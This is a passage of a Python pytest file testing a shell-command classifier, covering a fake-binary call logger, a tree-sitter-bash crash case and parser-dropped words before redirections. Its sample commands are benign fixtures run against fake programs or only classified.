    assert called <= ours or any(s.kind == "unknown" for s in st_), (form, sorted(called), sorted(ours))


@pytest.mark.skipif(BASH is None, reason="bash not installed")
def test_fake_bin_records_calls(fake_bin):
    """The harness above is not vacuous: a wrapped fake program does get run and logged."""
    d, log = fake_bin
    log.write_text("")
    subprocess.run([BASH, "--norc", "-c", "nice env timeout 5 rm x; echo a | xargs zzz"], env={"PATH": str(d)}, cwd=d,
                   capture_output=True, timeout=20)
    assert set(log.read_text().split()) == {"rm", "zzz"}


def test_a_command_that_crashes_tree_sitter_bash_is_unknown_and_never_parsed():
    """tree-sitter-bash 0.25.1 segfaults, nondeterministically, on some commands holding a character
    outside the BMP (found by hypothesis in the property tests): the classifier must not parse them."""
    import subprocess
    import sys

    crasher = "n\u00f4\u2b2dv{\U000fa583\x1a}"
    code = ("from agp.policy.classify import classify_shell\n"
            f"for _ in range(200):\n    st = classify_shell({crasher!r}, '/workspace')\n"
            "assert [s.kind for s in st] == ['unknown'], st\nprint('ok')\n")
    for _ in range(8):
        r = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
        assert r.returncode == 0 and r.stdout.strip() == "ok", (r.returncode, r.stderr[-500:])


@pytest.mark.parametrize("cmd", ["rm - 2>/dev/null", "echo - 2>&1", "cat -- - 3>x", "x=1 printf '%s' - 2>/dev/null"])
def test_a_word_the_parser_drops_before_a_redirection_is_unknown(cmd):
    """tree-sitter-bash drops a lone `-` before `N>`: bash passes it, so the statement is unknown
    (found by the compound-command differential test against bash)."""
    assert any("parser skipped" in r for r in unknown_reasons(cmd)), cls(cmd)
